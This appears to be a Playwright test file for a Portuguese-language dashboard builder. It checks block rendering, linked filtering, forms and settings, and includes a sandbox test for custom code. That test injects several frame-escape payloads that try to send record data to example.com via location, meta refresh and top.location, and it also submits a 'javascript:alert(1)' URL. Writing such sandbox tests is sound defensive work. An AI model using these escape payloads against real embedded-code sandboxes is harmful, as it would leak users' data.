import type { Page } from '@playwright/test'
import { notices } from '../fixtures/parts.ts'
import { good, type Person } from '../fixtures/people.ts'
import { checkAxe } from '../fixtures/screen.ts'
import { expect, test, once } from '../fixtures/test.ts'

const stages = [
  { id: 'opt_stage0', label: 'Nova', color: 'azul' },
  { id: 'opt_stage1', label: 'Fechada', color: 'verde' },
]
const day = (n: number) => `${new Date().toISOString().slice(0, 8)}${String(n).padStart(2, '0')}`

/** Six deals: the odd ones closed, worth a thousand more each, with two things to do. */
async function makeDeals({ client: { api } }: Person) {
  const table = good(await api.tables.create({ label: 'Negócios' }))
  const tableId = table.id
  const name = table.fields[0]?.id ?? ''
  const field = async (label: string, type: string, options: Record<string, unknown> = {}) =>
    good(await api.fields.create({ tableId, label, type, options })).id
  const stage = await field('Etapa', 'select', { options: stages })
  const value = await field('Valor', 'currency')
  const due = await field('Previsão', 'date')
  const todos = await field('Tarefas', 'todoList')
  const done = await field('Concluído', 'checkbox')
  const records = [1, 2, 3, 4, 5, 6].map((n) => ({
    values: {
      [name]: `Negócio ${n}`,
      [stage]: stages[n % 2]?.id,
      [value]: n * 1_000,
      [due]: day(10 + n),
      [todos]: [{ title: `Ligar para ${n}`, done: false }],
    },
  }))
  good(await api.records.createMany({ tableId, records }))
  return { tableId, name, stage, value, due, todos, done }
}
type Deals = Awaited<ReturnType<typeof makeDeals>>

type Settings = Record<string, unknown>
const words = (text: string) => ({
  type: 'doc',
  content: [
    { type: 'heading', attrs: { level: 1 }, content: [{ type: 'text', text }] },
    { type: 'paragraph', content: [{ type: 'text', text: 'Resultado da equipe', marks: [{ type: 'bold' }] }] },
  ],
})

/** One of each kind, with settings that make it show something. */
function everyKind(
  { tableId, name, stage, value, due, todos, done }: Deals,
  appId: string,
): [type: string, Settings][] {
  const of = (viewSettings: Settings, more: Settings = {}): Settings => ({ tableId, viewSettings, ...more })
  const measure = { field: value, aggregate: 'sum' }
  const fields = [name, stage, value]
  const isClosed = { op: 'and', rules: [{ field: stage, operator: 'is', value: 'opt_stage1' }] }
  const bar = { bg_color: null, items: [{ id: appId }], items_variant: 'no_icon' }
  return [
    ['topBar', { content: { bar } }],
    ['text', { content: { text: words('Painel de vendas') } }],
    ['filter', of({ fields: [stage] })],
    ['indicator', of({ measure }, { title: 'Vendido', content: { goal: 30_000 } })],
    ['progress', of({ done: isClosed }, { title: 'Fechados' })],
    ['button', { content: { label: 'Abrir negócios' }, actions: { on_press: { type: 'table', target: tableId } } }],
    ['divider', {}],
    ['chart', of({ groups: [{ field: stage }], measure }, { title: 'Por etapa' })],
    ['minilista', of({ fields, sort: [{ field: value, order: 'desc' }], footer: [measure] }, { title: 'Maiores' })],
    ['flow', of({ fields, kanban_field: stage }, { title: 'Funil' })],
    ['recordListAndUpdate', of({ fields }, { title: 'Lista' })],
    ['calendar', of({ fields: [name], calendar_date_range: { start: due, end: null } }, { title: 'Agenda' })],
    ['gantt', of({ gantt_table_fields: [name], gantt_date_range: { start: due, end: null } }, { title: 'Plano' })],
    ['gallery', of({ fields }, { title: 'Galeria' })],
    ['recordDetail', of({ fields }, { title: 'Um negócio' })],
    ['checklist', of({ checklist_field: todos }, { title: 'Pendências' })],
    [
      'formPages',
      of(
        {
          items: [
            { id: 'a', type: 'field', field_id: name, required: true },
            { id: 'b', type: 'page_break' },
            { id: 'c', type: 'field', field_id: value },
          ],
        },
        { title: 'Novo negócio', content: { success_title: 'Recebido' } },
      ),
    ],
    [
      'menu',
      {
        title: 'Ir para',
        content: { items: [{ id: 'm', type: 'link', target: '/home', label: 'Início', icon: 'home' }] },
      },
    ],
    ['tasks', of({ done_field: done, due_field: due }, { title: 'A fazer', content: { whose: 'everyone' } })],
    ['embed', { title: 'Vídeo' }],
    ['image', { title: 'Foto' }],
    ['customCode', of({ fields: [name] }, { title: 'Código', content: { html: '<p id="out">…</p>', js: code } })],
  ]
}

/** Says what it got, and what it could not reach. */
const code = `
oficina.getRecords().then(function (records) {
  var reached = 'nada'
  try { reached = parent.document.title } catch (error) { reached = 'nada' }
  document.getElementById('out').textContent = records.length + ' registros, ' + reached
  oficina.toast('Código pronto')
})`

async function makePage(person: Person) {
  const { api } = person.client
  const deals = await makeDeals(person)
  const { id: appId } = good(await api.apps.create({ label: 'Painel' }))
  const ids: Record<string, string> = {}
  for (const [type, settings] of everyKind(deals, appId))
    ids[type] = good(await api.blocks.create({ appId, type: type as 'text', settings })).component.id
  return { ...deals, appId, ids, path: `/app/${appId}` }
}

const block = (page: Page, type: string) => page.locator(`[data-type="${type}"]`)

test('one block of each kind stands on a page and shows what it should', async ({
  page,
  newOrganisation,
  enter,
  look,
}) => {
  // Twenty-two blocks, each looked at, and all of them searched for what people cannot use.
  test.setTimeout(150_000)
  const person = await newOrganisation()
  const { path, ids } = await makePage(person)
  const calls: string[] = []
  page.on('request', (request) => {
    if (request.url().endsWith('/data')) calls.push(request.postData() ?? '')
  })
  await enter(page, person, path)
  const see = async (type: string, text: string | RegExp) => {
    await block(page, type).scrollIntoViewIfNeeded()
    await expect(block(page, type), type).toContainText(text)
  }
  await see('text', 'Painel de vendas')
  await see('indicator', /21\.000/)
  await see('progress', '50%')
  await see('button', 'Abrir negócios')
  await see('minilista', 'Negócio 6')
  await expect(block(page, 'chart').getByRole('button', { name: /^Fechada: .*9\.000/ })).toBeVisible()
  await look(page, 'app-blocks-top')
  await checkAxe(page)
  await see('flow', 'Negócio 1')
  await see('recordListAndUpdate', 'Negócio 2')
  await see('calendar', 'Negócio 3')
  await see('gantt', 'Negócio 4')
  await see('gallery', 'Negócio 5')
  await see('recordDetail', 'Negócio 1')
  await see('checklist', 'Negócio 1')
  await see('menu', 'Início')
  await see('tasks', 'Negócio 1')
  await see('embed', 'ainda não foi configurado')
  await see('image', 'ainda não foi configurado')
  await see('formPages', 'Nunca envie senhas')
  await look(page, 'app-blocks-bottom')
  // What all of them ask first goes in one call.
  expect(calls[0]).toContain(ids.indicator)
  expect(calls[0]).toContain(ids.minilista)
  expect(calls[0]).toContain(ids.chart)
})

test(
  'code that a builder wrote gets records and notices, and reaches nothing else',
  once,
  async ({ page, newOrganisation, enter, expectProblem }) => {
    const person = await newOrganisation()
    const { path, appId, ids } = await makePage(person)
    await enter(page, person, path)
    await block(page, 'customCode').scrollIntoViewIfNeeded()
    // The code stands in a frame of its own inside the page that holds it.
    const frame = block(page, 'customCode').frameLocator('iframe').frameLocator('iframe')
    await expect(frame.locator('#out')).toHaveText('6 registros, nada', { timeout: 30_000 })
    await expect(notices(page)).toContainText('Código pronto')

    // The browser says what it refuses.
    expectProblem(/Framing '.*' violates .*frame-src 'none'/, /initiate navigation/, /permission to navigate/)
    // Led elsewhere, it would carry along what it was told: no way leads out of its frame.
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    for (const way of [
      "location = 'https://example.com/?leak=' + records.length",
      "location.replace('data:text/html,leak' + records.length)",
      'document.body.innerHTML = \'<meta http-equiv="refresh" content="0;url=https://example.com/?leak=meta">\'',
      'var link = document.createElement("a"); link.href = "/api/sandbox?leak=own"; document.body.append(link); link.click()',
      'top.location = "https://example.com/?leak=top"',
    ]) {
      const js = `oficina.getRecords().then(function (records) { ${way} })`
      good(
        await person.client.api.blocks.update({ appId, blockId: ids.customCode ?? '', settings: { content: { js } } }),
      )
      await page.reload()
      await block(page, 'customCode').scrollIntoViewIfNeeded()
      // What leads the frame itself stops it; what reaches for the page around it does nothing.
      if (!way.startsWith('top'))
        await expect(block(page, 'customCode'), way).toContainText('tentou sair', { timeout: 15_000 })
      else await expect(frame.locator('body')).toBeAttached()
    }
    expect(asked.filter((url) => url.includes('leak'))).toEqual([])
    expect(page.url()).toContain(path)
  },
)

test('a pressed bar, a search and a chosen record drive the other blocks', async ({
  page,
  newOrganisation,
  enter,
  isMobile,
}) => {
  test.skip(isMobile, 'the same on a narrow screen')
  const person = await newOrganisation()
  const { path, appId, tableId, stage } = await makePage(person)
  const closing = {
    tableId,
    viewSettings: { set_values: [{ field: stage, value: 'opt_stage1' }] },
    content: { label: 'Fechar negócio', done_text: 'Negócio fechado' },
    actions: { does: 'update_record', confirm: true },
  }
  good(await person.client.api.blocks.create({ appId, type: 'button', settings: closing }))
  await enter(page, person, path)
  const rows = block(page, 'minilista').locator('tbody tr')
  await expect(rows).toHaveCount(6)
  const closed = block(page, 'chart').getByRole('button', { name: /^Fechada/ })
  await closed.click()
  await expect(rows).toHaveCount(3)
  await expect(block(page, 'indicator')).toContainText('9.000')
  await closed.click()
  await expect(rows).toHaveCount(6)

  await block(page, 'filter').getByRole('searchbox').fill('Negócio 4')
  await expect(rows).toHaveCount(1)
  await block(page, 'filter').getByRole('button', { name: 'Limpar', exact: true }).click()
  await expect(rows).toHaveCount(6)

  await block(page, 'minilista').getByRole('button', { name: 'Negócio 5' }).click()
  await block(page, 'recordDetail').scrollIntoViewIfNeeded()
  await expect(block(page, 'recordDetail')).toContainText('Negócio 5')
  await expect(block(page, 'checklist')).toContainText('Negócio 5')

  // A value is changed in its cell, and the chosen record by a press; both are seen by the others.
  const cell = (name: RegExp) => block(page, 'minilista').getByRole('button', { name })
  await cell(/^Valor: .*6\.000,00\. Editar$/).click()
  await block(page, 'minilista').getByRole('textbox', { name: 'Valor' }).fill('6500')
  await page.keyboard.press('Enter')
  await expect(cell(/^Valor: .*6\.500,00\. Editar$/)).toBeVisible()
  await expect(block(page, 'indicator')).toContainText('21.500')
  await block(page, 'minilista').getByRole('button', { name: 'Negócio 6' }).click()
  await page.getByRole('button', { name: 'Fechar negócio' }).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Fechar negócio' }).click()
  await expect(notices(page)).toContainText('Negócio fechado')
  await expect(block(page, 'progress')).toContainText('4 de 6')
})

test('a form is filled in on its pages, and what was sent is seen by the others at once', async ({
  page,
  newOrganisation,
  enter,
}) => {
  const person = await newOrganisation()
  const { path } = await makePage(person)
  await enter(page, person, path)
  await expect(block(page, 'indicator')).toContainText('21.000')
  const form = block(page, 'formPages')
  await form.scrollIntoViewIfNeeded()
  await form.getByRole('button', { name: 'Avançar' }).click()
  await expect(
    form
      .getByRole('alert')
      .or(form.getByText(/obrigatório|Preencha/i))
      .first(),
  ).toBeVisible()
  await form.getByRole('textbox').first().fill('Negócio 7')
  // Begun and left: it is there when they come back.
  await page.reload()
  await form.scrollIntoViewIfNeeded()
  await expect(form).toContainText('O que você tinha preenchido está aqui')
  await expect(form.getByRole('textbox').first()).toHaveValue('Negócio 7')
  await form.getByRole('button', { name: 'Avançar' }).click()
  await form.getByLabel('Valor').fill('9000')
  await form.getByRole('button', { name: 'Enviar' }).click()
  await expect(form).toContainText('Recebido')
  await expect(block(page, 'indicator')).toContainText('30.000')
})

test('what is set in the panel is seen on the page, and what is refused stands at its setting', async ({
  page,
  newOrganisation,
  enter,
  isMobile,
  expectProblem,
}) => {
  test.skip(isMobile, 'pages are built on wide screens')
  const person = await newOrganisation()
  const { api } = person.client
  good(await api.profiles.updateSetting({ setting_key: 'build_mode', setting_value: true }))
  const { tableId, name } = await makeDeals(person)
  const { id: appId } = good(await api.apps.create({ label: 'Painel' }))
  good(await api.blocks.create({ appId, type: 'minilista' }))
  const embed = good(await api.blocks.create({ appId, type: 'embed' })).component.id
  await enter(page, person, `/app/${appId}?edit=true`)
  await page.locator('[data-type="minilista"]').waitFor()
  await page.getByRole('button', { name: /^Tabela: coluna/ }).dblclick()
  const panel = page.getByRole('dialog', { name: 'Configurações: Tabela' })
  await expect(panel).toContainText('Falta definir: Tabela')
  await panel.getByLabel('Título').fill('Clientes')
  await panel.locator('input:not([type=hidden])').nth(1).click()
  // Saved while the next menu is open, which stays open.
  await page.route(`**/api/v3/app/${appId}/block/*`, async (route) => {
    await new Promise((resolve) => setTimeout(resolve, 700))
    await route.continue()
  })
  const saved = page.waitForResponse((answer) => answer.request().postData()?.includes(tableId) ?? false)
  await page.getByRole('option', { name: 'Negócios' }).click()
  await panel.locator('input[aria-label="Adicionar campo"]').click()
  await expect(page.getByRole('option').first()).toBeVisible()
  await saved
  await page.getByRole('option').first().click()
  await expect(block(page, 'minilista')).toContainText('Negócio 1')
  await expect(block(page, 'minilista')).toContainText('Clientes')
  await checkAxe(page)
  const stored = good(await api.apps.get({ appId })).components.find(({ type }) => type === 'minilista')
  expect(stored?.settings).toMatchObject({ title: 'Clientes', tableId, viewSettings: { fields: [name] } })

  expectProblem(`PUT /api/v3/app/${appId}/block/${embed} 422`)
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: /^Vídeo ou site: coluna/ }).dblclick()
  const other = page.getByRole('dialog', { name: 'Configurações: Vídeo ou site' })
  await other.getByLabel('URL').fill('javascript:alert(1)')
  await expect(other).toContainText('Este link não')
})
